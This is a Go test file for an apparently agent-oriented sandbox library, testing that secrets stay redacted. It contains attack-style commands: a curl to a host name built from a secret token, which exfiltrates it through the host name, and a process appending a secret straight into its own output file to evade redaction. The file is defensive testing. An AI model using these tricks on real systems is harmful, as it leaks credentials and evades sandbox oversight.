package agentproc_test

import (
	"context"
	"os/exec"
	"regexp"
	"strings"
	"syscall"
	"testing"

	"github.com/agentproc/agentproc"
)

// TestRedactAttackDenialTarget: under NetworkHosts, a command that asks
// the proxy for a host named after a secret put the secret in
// Info.Denials and EventDenied's Denial (and so httpapi's JSON and
// llmtool's results) as it was, in lower case: the output was redacted,
// the denial's target was not. It is redacted like output now, a host
// name's raw values in any case.
func TestRedactAttackDenialTarget(t *testing.T) {
	requireHosts(t)
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl is not installed")
	}
	// Mixed case: the host name reaches the proxy in lower case.
	const secret = "S3cr3tT0k3nValue0123456789ABCdef"
	m := newManager(t, agentproc.WithSecrets(map[string]string{"API_TOKEN": secret}))
	ctx, cancel := context.WithCancel(testContext(t))
	defer cancel()
	events := m.Subscribe(ctx)
	req := hostsRequest(t, hostsSandbox(t, "example.com"), `curl -sS "https://$V.example.com/"; echo "$V"`)
	req.Env = map[string]string{"V": secret}
	out := runSandboxed(t, m, req)
	if strings.Contains(out.Text, secret) || !strings.Contains(out.Text, "[redacted:API_TOKEN]") {
		t.Fatalf("output: got %q, want the secret redacted", out.Text)
	}
	want := "[redacted:API_TOKEN].example.com:443"
	if len(out.Denials) != 1 || out.Denials[0].Target != want {
		t.Fatalf("Info.Denials: got %+v, want one with Target %q", out.Denials, want)
	}
	for e := range events {
		if e.ID != out.ID {
			continue
		}
		if e.Type == agentproc.EventDenied && e.Denial.Target != want {
			t.Errorf("EventDenied: got Target %q, want %q", e.Denial.Target, want)
		}
		if e.Type == agentproc.EventExited {
			break
		}
	}
	if hint := agentproc.DenialHint(out.Denials[0]); strings.Contains(strings.ToLower(hint), strings.ToLower(secret)) {
		t.Errorf("DenialHint: got %q, holding the secret", hint)
	}
}

// TestRedactAttackDetachedSegments: the Manager that follows a detached
// process copied its segment files into the output as they were, trusting
// the runner's redaction. Two ways out: the tree, which runs as the
// runner's user, appends a secret to its own segment file; and a Manager
// adopting the process after a restart with a secret the first one did
// not have shows that secret. Both are redacted now.
func TestRedactAttackDetachedSegments(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	fifo := makeFIFOs(t, 1)[0]
	const later = "added-after-the-restart-42"
	m1 := agentproc.New(agentproc.WithStateDir(dir), agentproc.WithSecrets(map[string]string{"GH_TOKEN": redactToken}))
	p1 := mustStart(t, m1, agentproc.Request{
		Command: `printf 'a\n'; printf 'direct %s\n' "$V" >> "$D/out/$AGENTPROC_ID/seg-0"; printf 'b\n'; ` +
			`printf 'later %s\n' "$L"; ` + exitOnFIFO(fifo, 0),
		Env:    map[string]string{"V": redactToken, "D": dir, "L": later},
		Detach: true,
	})
	t.Cleanup(func() {
		if t.Failed() { // the FIFO was not written: end the tree it waits in
			_ = syscall.Kill(-p1.Info().PID, syscall.SIGKILL)
		}
		_ = m1.Close() // closed already unless the test failed before
	})
	if _, err := p1.WaitMatch(testContext(t), regexp.MustCompile(`^later `)); err != nil {
		t.Fatalf("WaitMatch: %v (output %q)", err, p1.Output().Text)
	}
	requireNoLeak(t, "detached Output", p1.Output().Text, redactToken)
	if err := m1.Close(); err != nil {
		t.Fatal(err)
	}
	m2 := newManager(t, agentproc.WithStateDir(dir), agentproc.WithSecrets(map[string]string{"LATER": later}))
	if _, err := m2.Recovered(testContext(t)); err != nil {
		t.Fatal(err)
	}
	p2, err := m2.Get(p1.ID())
	if err != nil {
		t.Fatal(err)
	}
	writeFIFO(t, fifo, "x")
	mustWait(t, p2)
	text := p2.Output().Text
	requireNoLeak(t, "adopted Output", text, later)
	if !strings.Contains(text, "later [redacted:LATER]\n") {
		t.Errorf("adopted Output: got %q, want the later secret redacted", text)
	}
	// The adopting Manager does not know GH_TOKEN: the direct write,
	// which its runner never saw, is only caught by the first Manager.
	if !strings.Contains(p1.Output().Text, "direct [redacted:GH_TOKEN]\n") {
		t.Errorf("first Manager's Output: got %q, want the directly written secret redacted", p1.Output().Text)
	}
}
